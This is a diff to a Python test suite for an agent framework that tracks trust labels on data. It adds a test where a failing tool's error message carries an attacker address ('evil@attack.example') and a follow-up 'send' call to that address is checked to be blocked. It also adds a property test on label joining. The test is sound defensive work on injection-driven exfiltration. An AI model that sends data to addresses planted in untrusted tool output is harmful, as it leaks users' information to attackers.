@@ -9,7 +9,7 @@ from hypothesis import strategies as st
 
 from firsthand import Agent, Task, catalog
 from firsthand.declaration import Declaration, fields_at
-from firsthand.errors import ConfigError, UnknownName
+from firsthand.errors import ConfigError, ToolError, UnknownName
 from firsthand.loop.approval import Approval, Decision, question
 from firsthand.loop.journal import MemoryJournal
 from firsthand.message import ToolCall
@@ -205,7 +205,7 @@ def test_an_earlier_failure_is_no_witness():
     @tool(effect="read", declares=Declaration(trusts=(".",)))
     def broken() -> str:
         """Fail."""
-        raise ValueError("evil@attack.example")
+        raise ToolError("no\nevil@attack.example")
 
     attempt([("broken", {}), ("send", {"to": ["evil@attack.example"]})], tools=(send, broken))
     assert SENT == []
@@ -451,6 +451,8 @@ LABELS = st.builds(
 def test_joining_labels_is_associative_commutative_and_idempotent(a, b, c):
     assert a.join(b) == b.join(a) and a.join(a) == a and a.join(b).join(c) == a.join(b.join(c))
     assert not a.join(b).is_trusted or (a.is_trusted and b.is_trusted)
+    for reader in "abcd":
+        assert a.join(b).may_be_read_by(reader) == (a.may_be_read_by(reader) and b.may_be_read_by(reader))
 
 
 @given(
